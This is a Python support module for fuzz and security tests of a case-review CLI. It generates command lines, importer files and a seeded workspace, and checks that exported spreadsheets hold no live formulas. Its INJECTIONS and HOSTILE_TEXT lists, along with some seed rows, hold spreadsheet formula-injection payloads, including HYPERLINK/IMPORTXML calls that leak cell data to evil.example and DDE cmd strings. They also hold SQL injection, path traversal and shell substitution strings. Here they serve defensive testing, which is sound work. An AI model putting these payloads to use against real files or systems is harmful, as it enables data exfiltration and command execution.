"""Shared by the reliability, fault and security suites: the command tree walked from ``scr.cli.cli``,
hypothesis strategies for every parameter (chosen from its type, name, option strings and metavar),
importer file contents (CSV, .xlsx, .docx, binary junk, huge cells, formulas), a seeded workspace
built through whatever commands exist, and the invariants every command line must keep.

Nothing here knows a command by heart except the seed (and the seed skips what does not exist): a
command that lands on main is fuzzed as soon as it is registered in ``scr.cli.COMMANDS``.
"""

import csv
import io
import json
import os
import random
import shutil
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import click
from click.testing import CliRunner
from hypothesis import strategies as st

from conftest import snapshot
from scr.cli import cli

ROOT = Path(__file__).resolve().parent.parent
AS_OF = "2014-04-30"
AGENCIES = ["Children's Social Care", "Metropolitan Police", "Barts Health", "Education"]
REFS = ["r1", "r2", "r3"]
STATUSES = ["not-started", "in-progress", "completed", "cancelled", "requested", "overdue", "received",
            "due", "met", "waiting"]
EVENT_KINDS = ["aware", "referral", "decision", "initiated", "tor-agreed", "author-appointed",
               "panel-meeting", "draft-received", "board-signoff", "published", "closed",
               "impact-reviewed", "notify:panel:incident", "notify:ofsted"]
RECIPIENTS = ["ofsted", "dfe", "panel", "secretary-of-state", "home-office"]
PURPOSES = ["incident", "decision", "not-initiated", "rapid-review", "pre-publication", "report"]
FIELDS = ["title", "subject", "framework", "scope-from", "scope-to", "author", "chair", "incident",
          "terms-of-reference"]
OUTPUT_SUFFIXES = [".xlsx", ".csv", ".docx", ".html", ".md", ".pdf", ".ics", ".eml", ".txt", ".json", ""]

# Text a spreadsheet would run as a formula, and other hostile cell and option values.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "'=already quoted",
    "=",
    "+",
    "-",
    "@",
]
HOSTILE_TEXT = INJECTIONS + [
    "", " ", "\t", "\n", "x" * 5000, "\u202eevil\u202c", "Ω≈ç√∫", "𝕏 emoji 🧒", "Robert'); DROP TABLE actions;--",
    "{{ 7*7 }}", "{% raw %}", "[[placeholder]]", "TODO", "TBC", "<script>alert(1)</script>",
    "../../etc/passwd", "C:\\Windows\\system32", "a:b", "line\nbreak", "\x00nul", "\x1b[31mred",
    "\\", "%s%s%s", "${HOME}", "$(id)", "`id`",
]


def is_formula_text(text):
    """Text that a spreadsheet would treat as a formula when a cell holds it as is."""
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")


# The command tree ------------------------------------------------------------------------------

def walk(group=cli, prefix=()):
    """(path, command) for every leaf command under ``group``, in name order."""
    ctx = click.Context(group, info_name="scr")
    for name in group.list_commands(ctx):
        command = group.get_command(ctx, name)
        if command is None:
            continue
        if isinstance(command, click.Group):
            yield from walk(command, prefix + (name,))
        else:
            yield prefix + (name,), command


def command_paths():
    return [" ".join(path) for path, _ in walk()]


def find(path):
    for candidate, command in walk():
        if candidate == tuple(path.split()):
            return command
    raise KeyError(path)


# Strategies for values --------------------------------------------------------------------------

def mostly(good, bad, weight=4):
    """``good`` about ``weight`` times as often as ``bad``: most command lines should get far enough
    to reach the code behind the argument checks."""
    # Hypothesis leans towards the ends of a range (0 and the maximum): bad sits in the middle.
    return st.integers(0, weight).flatmap(lambda i: bad if i == weight // 2 + 1 else good)


junk = st.sampled_from(HOSTILE_TEXT) | st.text(max_size=40)
words = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=30)
plain_text = st.sampled_from(["Child F", "Jane Author", "A note", "Recommendation wording", "Mother",
                              "Parallel criminal proceedings", "Police", "something"]) | words


def _day(d):
    return d.strftime("%Y-%m-%d")


date_text = st.one_of(
    st.dates(min_value=date(2011, 1, 1), max_value=date(2014, 4, 30)).map(_day),
    st.dates(min_value=date(2011, 1, 1), max_value=date(2014, 4, 30)).map(_day),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2015, 12, 31)).map(_day),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2014, 4, 30)).map(lambda d: f"{d.day}/{d.month}/{d.year}"),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2014, 4, 30)).map(lambda d: f"{d.day}.{d.month}.{d.year % 100:02d}"),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2014, 4, 30)).map(lambda d: d.strftime("%d %B %Y")),
    st.dates().map(_day),
    st.sampled_from(["31/02/2013", "2013-13-01", "0/0/0", "March 2013", "2013", "yesterday", "1e9",
                     "9999-12-31", "0001-01-01", "29/2/2013", "29/2/2012", "32 Jan 2013", "3rd Marchh 2013",
                     "2014-04-30", "2014-05-01", "  2013-01-01  ", "2013-1-1", "-1", ""]),
    junk,
)
ref_text = mostly(st.sampled_from(REFS), st.sampled_from(
    ["r9", "R1", "../r1", "/etc", "", " r1", "r1 ", "a" * 65, "-r1", "r1/../r2", "nul", "con", "r_1", "é"]
) | junk, 6)
agency_text = mostly(st.sampled_from(AGENCIES + ["csc", "  metropolitan   POLICE ", "Unknown Agency"]), junk)
status_text = mostly(st.sampled_from(STATUSES), junk)
kind_text = mostly(st.sampled_from(EVENT_KINDS + ["scr", "learning", "strategy-meeting"]), junk)
record_text = mostly(st.sampled_from(["e1", "e2", "e3", "e4", "p1", "r1", "r2", "e99", "x1", "e", "1", "e-1", "E1"]), junk)
action_id_text = mostly(
    st.sampled_from(["r1:1", "r1:2", "r1:1", "r1:2", "r2:1", "r1:9", "r1:0", "r1:-1"]),
    st.sampled_from(["r1:", ":1", "r1:1:1", "r1", "1", "r1:01", "r1:1.0"]) | junk,
)
label_text = mostly(st.sampled_from(["1", "2a", "3", "10"]), junk)
number_text = mostly(st.integers(-5, 400).map(str), st.sampled_from(["0", "1e3", "ten", "", "99999999999999999999"]) | junk)
recipient_text = mostly(st.sampled_from(RECIPIENTS), junk)
purpose_text = mostly(st.sampled_from(PURPOSES), junk)
field_text = mostly(st.sampled_from(FIELDS), junk)
relation_text = mostly(st.sampled_from(["became", "parallel", "joint"]), junk)
name_text = mostly(st.sampled_from(["Jane Realname", "John Smith", "Kelly", "O'Brien"]), junk)


# Importer files ---------------------------------------------------------------------------------

CHRONOLOGY_HEADERS = ["Date", "Time", "Event", "Source", "Significance", "Practitioner"]
ACTION_HEADERS = ["ID", "Review", "Recommendation", "Action", "Agency", "Owner", "Due", "Status",
                  "Completed", "RAG", "Evidence", "Outcome", "Added", "Version"]

cell = st.one_of(
    date_text,
    plain_text,
    st.sampled_from(INJECTIONS),
    st.sampled_from(["", None, "x" * 40000, "Ⅻ", "1", "r1:1", "r1", "in-progress", "completed", "10:30",
                     "25:99", "1", "2"]),
    st.sampled_from(AGENCIES),
    st.integers(-10, 10 ** 12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2100, 1, 1)),
    st.text(max_size=20),
)


@st.composite
def table_rows(draw):
    headers = draw(st.sampled_from(["chronology", "actions", "random", "none"]))
    if headers == "chronology":
        header = draw(st.permutations(CHRONOLOGY_HEADERS).map(lambda h: h[: len(h)]))
        header = header[: draw(st.integers(1, len(header)))]
    elif headers == "actions":
        header = ACTION_HEADERS[: draw(st.integers(1, len(ACTION_HEADERS)))]
    elif headers == "random":
        header = draw(st.lists(st.sampled_from(CHRONOLOGY_HEADERS + ACTION_HEADERS) | words, max_size=8))
    else:
        header = []
    titles = draw(st.lists(st.lists(cell, max_size=3), max_size=2))
    width = max(len(header), 1)
    rows = draw(st.lists(st.lists(cell, min_size=0, max_size=width + 1), max_size=6))
    return titles + ([header] if header else []) + rows


def _text_cell(value):
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    return str(value)


def csv_bytes(rows, encoding, delimiter):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow([_text_cell(c) for c in row])
    return buffer.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(rows, sheets=1):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for _ in range(sheets - 1):
        book.create_sheet()
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
                value = str(value)  # openpyxl cannot store NaN or infinity
            if isinstance(value, str):
                value = "".join(ch for ch in value if ch >= " " or ch in "\t\n\r")[:32767]
            try:
                sheet.cell(row=r, column=c, value=value)  # "=…" becomes a real formula cell
            except (ValueError, TypeError):
                sheet.cell(row=r, column=c, value=str(value))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def docx_bytes(rows):
    import docx

    document = docx.Document()
    document.add_paragraph("Chronology")
    width = max((len(r) for r in rows), default=1) or 1
    if rows:
        table = document.add_table(rows=len(rows), cols=width)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                text = "".join(ch for ch in _text_cell(value) if ch >= " " or ch in "\t\n")[:5000]
                table.cell(r, c).text = text
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


hostile_cell = st.one_of(plain_text, plain_text, st.sampled_from(INJECTIONS), st.sampled_from(HOSTILE_TEXT[14:]))
good_date = st.dates(min_value=date(2011, 1, 2), max_value=date(2013, 1, 6))


@st.composite
def valid_rows(draw):
    """Rows an importer should accept, with hostile text (formulas, huge, odd characters) where text goes."""
    if draw(st.booleans()):
        header = ["Date", "Time", "Event", "Source", "Significance", "Practitioner"]
        rows = [[draw(st.one_of(good_date, good_date.map(lambda d: f"{d.day}/{d.month}/{d.year}"),
                                good_date.map(lambda d: d.strftime("%B %Y")))),
                 draw(st.sampled_from(["", "09:30", "17:05"])), draw(hostile_cell.filter(lambda t: t.strip())),
                 draw(hostile_cell), draw(hostile_cell), draw(hostile_cell)]
                for _ in range(draw(st.integers(1, 5)))]
    else:
        header = ["ID", "Review", "Recommendation", "Action", "Agency", "Owner", "Due", "Status", "Completed",
                  "RAG", "Evidence", "Outcome"]
        rows = []
        for _ in range(draw(st.integers(1, 4))):
            status = draw(st.sampled_from(["not-started", "in-progress", "completed"]))
            rows.append([draw(st.sampled_from(["", "", "r1:1", "r1:2"])), "r1", draw(st.sampled_from(["1", "2", "4"])),
                         draw(hostile_cell.filter(lambda t: t.strip())), draw(st.sampled_from(AGENCIES)),
                         draw(hostile_cell), "2014-09-01", status, "2014-04-30" if status == "completed" else "",
                         "", draw(hostile_cell) if status != "completed" else "Audit evidence", draw(hostile_cell)])
    return [header] + rows


@st.composite
def input_file(draw):
    """(suffix, bytes) of a file an importer might be given: well-formed, malformed or junk."""
    form = draw(st.sampled_from(["valid-csv", "csv", "valid-xlsx", "xlsx", "valid-docx", "docx", "md", "junk",
                                 "truncated", "zip", "empty"]))
    if form.startswith("valid-"):
        rows = draw(valid_rows())
        form = form[len("valid-"):]
    elif form in ("csv", "xlsx", "docx", "truncated"):
        rows = draw(table_rows())
    if form == "csv":
        encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16", "cp1252"]))
        data = csv_bytes(rows, encoding, draw(st.sampled_from([",", ",", ";", "\t"])))
        return draw(st.sampled_from([".csv", ".CSV", ".txt"])), data
    if form == "xlsx":
        return draw(st.sampled_from([".xlsx", ".XLSX", ".csv"])), xlsx_bytes(rows, draw(st.integers(1, 2)))
    if form == "docx":
        return ".docx", docx_bytes(rows)
    if form == "md":
        return draw(st.sampled_from([".md", ".txt", ""])), draw(st.text(max_size=300)).encode("utf-8", "replace")
    if form == "truncated":
        data = xlsx_bytes(rows)  # its length varies with the clock (zip time stamps): cut at a fraction
        return draw(st.sampled_from([".xlsx", ".docx"])), data[: len(data) * draw(st.integers(0, 99)) // 100]
    if form == "zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", draw(st.binary(max_size=200)))
            archive.writestr("xl/workbook.xml", draw(st.binary(max_size=200)))
        return draw(st.sampled_from([".xlsx", ".docx"])), buffer.getvalue()
    if form == "empty":
        return draw(st.sampled_from([".csv", ".xlsx", ".docx", ".md"])), b""
    return draw(st.sampled_from([".csv", ".xlsx", ".docx", ".md", ".bin"])), draw(st.binary(max_size=3000))


class InputFile:
    """A file to be written into the example's scratch folder before the command runs."""

    def __init__(self, suffix, data):
        self.suffix, self.data = suffix, data

    def __repr__(self):
        return f"InputFile({self.suffix!r}, {len(self.data)} bytes: {self.data[:60]!r})"


class OutputPath:
    """An output path in the example's scratch folder (or inside the workspace)."""

    def __init__(self, where, suffix):
        self.where, self.suffix = where, suffix

    def __repr__(self):
        return f"OutputPath({self.where!r}, {self.suffix!r})"


input_files = input_file().map(lambda pair: InputFile(*pair))
output_paths = st.builds(OutputPath, st.sampled_from(["scratch", "scratch", "nested", "workspace", "folder", "existing-folder"]),
                         st.sampled_from(OUTPUT_SUFFIXES))


def _matches(param, *names):
    """Does the parameter's name, any option string or its metavar mention one of ``names``?"""
    labels = {(param.name or "").lower(), (param.metavar or "").lower().strip(".[]")}
    labels |= {o.lstrip("-").lower() for o in getattr(param, "opts", [])}
    return any(n in labels for n in names)


REVIEW_KINDS = ["scr", "thematic", "rapid", "lcspr", "dhr", "learning"]
# Parameters known by name (or option string, or metavar), and what to give them.
BY_NAME = [
    (("kind",), kind_text), (("record",), record_text), (("id", "action_id"), action_id_text),
    (("label", "recommendation"), label_text), (("recipient",), recipient_text),
    (("purpose",), purpose_text), (("field",), field_text), (("as", "relation"), relation_text),
]


def value_strategy(param, path=""):
    """A strategy of one value for ``param``: a string, an InputFile or an OutputPath."""
    kind = param.type
    if path == "new" and param.name == "kind":
        return mostly(st.sampled_from(REVIEW_KINDS), kind_text)
    if path == "new" and param.name == "ref":
        return mostly(st.sampled_from(["r4", "2013-child-x", "r1"]), ref_text)
    if _matches(param, "framework"):
        return mostly(st.sampled_from(["wt2013", "wt2015", "wt2018", "wt2023", "dhr2016", "none", "no-such"]), junk)
    if _matches(param, "other"):
        return mostly(st.sampled_from(["r3", "r2", "r1", "another-board-ref"]), ref_text)
    if isinstance(kind, click.Choice):
        return mostly(st.sampled_from(list(kind.choices)), junk)
    if _matches(param, "o", "output", "out", "dir") and not isinstance(param, click.Argument):
        return output_paths
    if isinstance(kind, click.Path) or _matches(param, "file", "files", "path", "csv", "xlsx", "docx", "file.xlsx"):
        if _matches(param, "path") and not _matches(param, "file"):
            return output_paths  # `scr init PATH`: a folder to create
        return mostly(input_files, st.sampled_from(["missing.csv", "", "/", "."]), 8)
    if isinstance(kind, (click.types.IntParamType, click.types.FloatParamType)) or _matches(param, "days", "n", "within", "count", "limit"):
        return number_text
    if _matches(param, "ref", "refs", "other", "review"):
        return ref_text
    if _matches(param, "due"):
        return mostly(st.dates(min_value=date(2014, 4, 30), max_value=date(2016, 1, 1)).map(_day), date_text, 3)
    if _matches(param, "date", "from", "to", "aware", "until", "when", "since", "as-of", "date_text",
                "from_text", "requested", "completed", "scope-from", "scope-to"):
        return date_text
    if _matches(param, "status"):
        return status_text
    if _matches(param, "agency", "agencies", "name", "agency..."):
        return agency_text if _matches(param, "agency", "agencies", "agency...") else name_text
    for names, strategy in BY_NAME:
        if _matches(param, *names):
            return strategy
    if _matches(param, "value"):
        return st.one_of(plain_text, plain_text, date_text, input_files, junk)
    return mostly(plain_text, junk, 3)


@st.composite
def command_line(draw, path):
    """[words of the path, then arguments and options] for one command, mostly well-formed."""
    command = find(path)
    argv = list(path.split())
    for param in command.params:
        if isinstance(param, click.Argument):
            strategy = value_strategy(param, path)
            if param.nargs == -1:
                count = draw(st.integers(0 if not param.required else 1, 3))
                argv += [draw(strategy) for _ in range(count)]
            elif param.required or draw(st.integers(0, 4)) != 2:
                argv.append(draw(strategy))
        else:
            if param.hidden or param.name in ("help",):
                continue
            if param.is_flag:
                if draw(st.integers(0, 2)) == 0 or (param.name == "as_json" and draw(st.booleans())):
                    argv.append(param.opts[0])
                continue
            if param.required:
                present = draw(st.integers(0, 39)) != 17  # now and then the required option is missing
            else:
                present = draw(st.booleans())
            if present:
                argv += [param.opts[-1] if param.opts[-1].startswith("--") else param.opts[0], draw(value_strategy(param, path))]
    extra = draw(st.integers(0, 30))  # now and then a usage error: 13-15 (the middle, see mostly())
    if extra == 13:
        argv.append("--no-such-option")
    elif extra == 14:
        argv.append(draw(junk))
    elif extra == 15:
        argv[len(path.split()):] = draw(st.permutations(argv[len(path.split()):]))
    root = []
    if draw(st.integers(0, 9)) == 5:
        root += ["--as-of", draw(date_text)]
    if draw(st.integers(0, 14)) == 7:
        root += ["--user", draw(junk)]
    return root + argv


# The seeded workspace -----------------------------------------------------------------------------

SEED_CHRONOLOGY = (
    "Date,Time,Event,Source,Significance,Practitioner\n"
    "3/1/2012,10:30,Home visit by social worker,Case notes,Concerns about home conditions,SW1\n"
    "March 2012,,Strategy discussion,Minutes,=HYPERLINK(\"http://evil.example\"),Police DS\n"
    "14/02/2013,,Child seen at A&E,ED record,Possible non-accidental injury,Dr X\n"
)


def seed_commands(chronology_file):
    """Command lines that give a workspace something in every table; those that do not exist are skipped."""
    return [
        ["new", "scr", "--ref", "r1", "--title", "Serious case review: Child F", "--subject", "Child F", "--aware", "2013-01-07"],
        ["new", "rapid", "--ref", "r2", "--title", "Rapid review: Infant B", "--subject", "Infant B", "--aware", "1/3/2014"],
        ["new", "dhr", "--ref", "r3", "--title", "Domestic homicide review", "--subject", "Adult C"],
        ["set", "r1", "scope-from", "2011-01-01"],
        ["set", "r1", "scope-to", "2013-01-07"],
        ["set", "r1", "author", "Jane Author"],
        ["set", "r1", "incident", "death"],
        ["link", "r2", "r1", "--as", "parallel"],
        ["event", "r1", "referral", "--date", "2013-01-10"],
        ["event", "r1", "decision", "--date", "2013-01-20"],
        ["event", "r1", "initiated", "--date", "2013-02-01"],
        ["event", "r1", "published", "--date", "2014-09-01", "--planned"],
        ["notify", "r1", "ofsted", "--date", "2013-01-08", "--purpose", "incident"],
        ["pause", "r2", "--from", "2014-03-10", "--reason", "Parallel criminal proceedings"],
        ["chronology", "request", "r1", "Children's Social Care", "Metropolitan Police", "Barts Health", "--due", "2013-03-01", "--date", "2013-01-15"],
        ["chronology", "add", "r1", "Metropolitan Police", str(chronology_file)],
        ["recommendation", "set", "r1", "1", "Agencies should share information", "--response", "Agreed"],
        ["actions", "add", "r1", "Audit information sharing", "--recommendation", "1", "--agency", "Metropolitan Police", "--due", "2013-06-01"],
        ["actions", "add", "r1", "=HYPERLINK(\"http://evil.example\",\"x\")", "--recommendation", "2", "--agency", "Education", "--due", "2014-12-01"],
        ["actions", "update", "r1:1", "--status", "in-progress"],
        ["redact", "add", "r1", "Jane Realname", "--replace-with", "Mother"],
        ["report", "draft", "r1"],
    ]


def invoke(args, ws, input=None, env=None):
    """CliRunner invocation against ``ws``; an unexpected exception (a traceback) is re-raised."""
    environment = {"SCR_WORKSPACE": str(ws), "SCR_AS_OF": AS_OF, "SCR_USER": "fuzzer", "NO_COLOR": "1"}
    environment.update(env or {})
    result = CliRunner().invoke(cli, [str(a) for a in args], input=input, env=environment, catch_exceptions=True)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"scr {args!r} raised {type(result.exception).__name__}") from result.exception
    return result


def build_seed(root, group=False):
    """An initialised workspace with an agency register and the seed's records."""
    from scr.workspace.workspace import create

    ws = create(root / "ws", "Fuzz Safeguarding Children Board")
    config = ws / "scr.toml"
    if group:
        config.write_text(config.read_text(encoding="utf-8").replace("group = false", "group = true"), encoding="utf-8")
    register = "".join(
        f'\n[agencies."{name}"]\nemail = "{name.split()[0].lower().strip(chr(39)+"s")}@example.org"\n'
        for name in AGENCIES
    ).replace('[agencies."Children\'s Social Care"]\n', '[agencies."Children\'s Social Care"]\naliases = ["CSC"]\n')
    config.write_text(config.read_text(encoding="utf-8") + register, encoding="utf-8")
    chronology = root / "police.csv"
    chronology.write_text(SEED_CHRONOLOGY, encoding="utf-8")
    known = set(command_paths())
    for args in seed_commands(chronology):
        if not any(" ".join(args[:n]) in known for n in (1, 2)):
            continue
        result = invoke(args, ws)
        assert result.exit_code == 0, f"the seed's `scr {' '.join(args)}` failed: {result.stderr}"
    return Seed(ws)


# Running one example and checking the invariants --------------------------------------------------

def materialise(argv, scratch, ws):
    """Turn InputFile/OutputPath values into real paths under ``scratch``; returns (args, outputs)."""
    args, outputs = [], []
    for n, value in enumerate(argv):
        if isinstance(value, InputFile):
            path = scratch / f"input{n}{value.suffix}"
            path.write_bytes(value.data)
            args.append(str(path))
        elif isinstance(value, OutputPath):
            if value.where == "workspace":
                path = ws / "out" / f"fuzz{n}{value.suffix}"
            elif value.where == "nested":
                path = scratch / "new" / "folders" / f"out{n}{value.suffix}"
            elif value.where in ("folder", "existing-folder"):
                path = scratch / f"folder{n}"
                if value.where == "existing-folder":
                    path.mkdir(exist_ok=True)
            else:
                path = scratch / f"out{n}{value.suffix}"
            args.append(str(path))
            outputs.append(path)
        else:
            args.append(value)
    return args, outputs


def check_spreadsheets(paths, kept=()):
    """No cell of an .xlsx scr wrote is a formula; no CSV cell starts one unprefixed. Files whose
    bytes are one of ``kept`` (an agency's original file, kept untouched as CLI.md asks) are not scr's."""
    for path in paths:
        if kept and path.is_file() and path.read_bytes() in kept:
            continue
        if path.suffix == ".xlsx" and path.is_file():
            from openpyxl import load_workbook

            if not zipfile.is_zipfile(path) or "xl/workbook.xml" not in zipfile.ZipFile(path).namelist():
                continue  # not a workbook, only named like one (`report render -o report.xlsx` writes Word)

            book = load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for item in row:
                        assert item.data_type != "f", f"{path} {sheet.title}!{item.coordinate} is a formula: {item.value!r}"
        elif path.suffix == ".csv" and path.is_file():
            with open(path, newline="", encoding="utf-8-sig") as handle:
                for line_no, row in enumerate(csv.reader(handle), start=1):
                    for value in row:
                        assert not (is_formula_text(value) and not _is_number(value)), \
                            f"{path} row {line_no}: cell {value[:40]!r} would run as a formula"


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def written_files(before, after, root):
    return [Path(root) / name for name, data in after.items() if before.get(name) != data]


def check_result(args, result, before, after, outputs, ws, kept=()):
    """The invariants of CLI.md for one finished command line."""
    shown = f"scr {' '.join(repr(a)[:80] for a in args)}\nexit {result.exit_code}\nstderr: {result.stderr[-800:]}"
    assert result.exit_code in (0, 1, 2, 3), shown
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout, shown
    assert "this is a bug in scr" not in result.stderr, shown
    if result.exit_code == 1:
        assert "Error:" in result.stderr, shown
    if result.exit_code != 0:
        changed = sorted(set(before) ^ set(after) | {k for k in before if k in after and before[k] != after[k]})
        assert not changed, f"a failed command changed the workspace: {changed[:5]}\n{shown}"
        for path in outputs:
            assert not (path.is_file() and path.stat().st_size and path.suffix), f"a failed command wrote {path}\n{shown}"
    else:
        if "--json" in args:
            try:
                json.loads(result.stdout)
            except ValueError:
                raise AssertionError(f"--json printed something that is not one JSON document\n{shown}\n{result.stdout[:300]}")
        # a file whose bytes were already in the workspace was moved (scr rename), not written
        moved = set(before.values())
        check_spreadsheets(written_files(before, after, ws) + [p for p in outputs if p.is_file()],
                           set(kept) | moved)


def fast_base(fallback):
    """A folder for many short-lived examples: on a RAM disk (/dev/shm) where there is one, as
    creating and deleting thousands of small folders on a real disk dominates the run time."""
    import tempfile

    shm = Path("/dev/shm")
    if shm.is_dir() and os.access(shm, os.W_OK):
        return Path(tempfile.mkdtemp(prefix="scr-fuzz-", dir=shm))
    Path(fallback).mkdir(parents=True, exist_ok=True)
    return Path(tempfile.mkdtemp(dir=fallback))


class Seed:
    """The seed workspace held in memory (folders, files and modes), to lay down fresh per example."""

    def __init__(self, root):
        self.root = Path(root)
        self.dirs, self.files = [], []
        for folder, dirs, names in os.walk(root):
            for name in dirs:
                full = os.path.join(folder, name)
                self.dirs.append((os.path.relpath(full, root), os.stat(full).st_mode & 0o7777))
            for name in names:
                full = os.path.join(folder, name)
                with open(full, "rb") as handle:
                    self.files.append((os.path.relpath(full, root), handle.read(), os.stat(full).st_mode & 0o7777))

    def __fspath__(self):
        return str(self.root)

    def lay_down(self, target):
        os.mkdir(target, 0o700)
        for name, mode in self.dirs:
            os.mkdir(os.path.join(target, name))
            os.chmod(os.path.join(target, name), mode)
        for name, data, mode in self.files:
            fd = os.open(os.path.join(target, name), os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
            os.write(fd, data)
            os.close(fd)
            os.chmod(os.path.join(target, name), mode)


class Scratch:
    """A fresh copy of the seed workspace, and a folder for input and output files, per example."""

    def __init__(self, seed, base):
        import tempfile

        self.base = Path(base)
        self.base.mkdir(parents=True, exist_ok=True)
        self.folder = Path(tempfile.mkdtemp(dir=self.base))
        self.ws = self.folder / "ws"
        if not isinstance(seed, Seed):
            seed = Seed(seed)
        seed.lay_down(self.ws)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        shutil.rmtree(self.folder, ignore_errors=True)
        if self.folder.exists():  # a test made something read-only
            for folder, dirs, _ in os.walk(self.folder):
                for name in dirs:
                    os.chmod(os.path.join(folder, name), 0o700)
            shutil.rmtree(self.folder, ignore_errors=True)


def run_example(argv, seed, base):
    """Run one generated command line in-process against a fresh copy of the seed, and check it."""
    with Scratch(seed, base) as scratch:
        args, outputs = materialise(argv, scratch.folder, scratch.ws)
        before = snapshot(scratch.ws)
        here = os.getcwd()
        os.chdir(scratch.folder)  # `scr init` with no PATH, relative -o paths: inside the example
        try:
            result = invoke(args, scratch.ws)
        finally:
            os.chdir(here)
        after = snapshot(scratch.ws)
        kept = {value.data for value in argv if isinstance(value, InputFile)}
        check_result(args, result, before, after, outputs, scratch.ws, kept)
        return result


# Command lines that change something, each expected to succeed on the seed -----------------------
# {out}: a folder outside the workspace for -o; {chronology}, {plan}, {tor}: input files made by
# writer_inputs(). Commands not (yet) registered are skipped; test_faults checks that every
# registered command is either here or in READERS.

WRITERS = [
    ["init", "{out}/another-ws", "--board", "Another Board"],
    ["new", "scr", "--title", "Serious case review: Child Z", "--subject", "Child Z", "--ref", "r9", "--aware", "2014-01-06"],
    ["set", "r1", "title", "Serious case review: Child F (revised)"],
    ["set", "r1", "terms-of-reference", "{tor}"],
    ["link", "r1", "r3", "--as", "parallel"],
    ["withdraw", "r1", "e1", "--reason", "Entered in error"],
    ["event", "r1", "tor-agreed", "--date", "2013-03-01", "--note", "Panel agreed"],
    ["notify", "r1", "panel", "--date", "2013-01-09", "--purpose", "incident"],
    ["notify", "r1", "ofsted", "--draft", "--purpose", "incident"],
    ["pause", "r1", "--from", "2013-04-01", "--reason", "Inquest"],
    ["resume", "r2", "--date", "2014-04-01"],
    ["calendar", "-o", "{out}/deadlines.ics"],
    ["chronology", "request", "r1", "Education", "--due", "2014-06-01"],
    ["chronology", "template", "r1", "Barts Health", "-o", "{out}/template.xlsx"],
    ["chronology", "add", "r1", "Children's Social Care", "{chronology}"],
    ["chronology", "add", "r1", "Metropolitan Police", "{chronology}", "--replace"],
    ["chronology", "merge", "r1", "-o", "{out}/merged.xlsx"],
    ["chronology", "chase", "r1", "-o", "{out}/chase"],
    ["report", "draft", "r2"],
    ["report", "render", "r1", "--to", "md", "-o", "{out}/report.md"],
    ["report", "render", "r1", "--to", "docx"],
    ["redact", "add", "r1", "John Smith", "--replace-with", "Father"],
    ["recommendation", "set", "r1", "2", "Schools should record concerns"],
    ["actions", "add", "r1", "Train staff in escalation", "--recommendation", "1", "--agency", "Education", "--due", "2014-09-01"],
    ["actions", "update", "r1:1", "--status", "completed", "--date", "2014-04-30", "--evidence", "Audit report"],
    ["actions", "export", "r1", "-o", "{out}/plan.xlsx"],
    ["actions", "import", "r1", "{plan}"],
    ["actions", "remind", "-o", "{out}/reminders"],
    ["annual", "--from", "2013-04-01", "--to", "2014-03-31", "-o", "{out}/annual.md"],
    ["board-paper", "-o", "{out}/paper.html"],
    ["timeline", "r1", "-o", "{out}/timeline.svg"],
    ["rename", "r3", "r8"],
]
READERS = [
    ["list", "--all", "--json"], ["show", "r1", "--json"], ["log", "r1", "--json"], ["doctor"],
    ["deadlines", "--json"], ["frameworks"], ["chronology", "status", "r1", "--json"],
    ["chronology", "merge", "r1", "--json"], ["report", "check", "r1"], ["redact", "list", "r1", "--json"],
    ["actions", "list", "--json"], ["actions", "overdue", "--json"], ["recommendation", "list", "r1", "--json"],
    ["status", "--json"], ["annual", "--from", "2013-04-01", "--to", "2014-03-31", "--json"],
]
PLAN_CSV = (
    "ID,Review,Recommendation,Action,Agency,Owner,Due,Status,Completed,RAG,Evidence\n"
    ",r1,3,Imported action,Education,Head teacher,1/10/2014,not-started,,,\n"
)


def path_of(argv):
    """The command path of a command line: the longest prefix that names a registered command."""
    known = set(command_paths())
    for n in (2, 1):
        if " ".join(argv[:n]) in known:
            return " ".join(argv[:n])
    return None


def available(lines):
    return [argv for argv in lines if path_of(argv)]


def writer_inputs(folder):
    """The input files WRITERS name, made in ``folder``; returns the substitutions."""
    folder = Path(folder)
    (folder / "csc.csv").write_text(SEED_CHRONOLOGY.replace("Police DS", "SW2"), encoding="utf-8")
    (folder / "plan.csv").write_text(PLAN_CSV, encoding="utf-8")
    (folder / "tor.md").write_text("# Terms of reference\n\nThe review will consider 2011-2013.\n", encoding="utf-8")
    (folder / "out").mkdir(exist_ok=True)
    return {"{chronology}": str(folder / "csc.csv"), "{plan}": str(folder / "plan.csv"),
            "{tor}": str(folder / "tor.md"), "{out}": str(folder / "out")}


def fill(argv, substitutions):
    filled = []
    for word in argv:
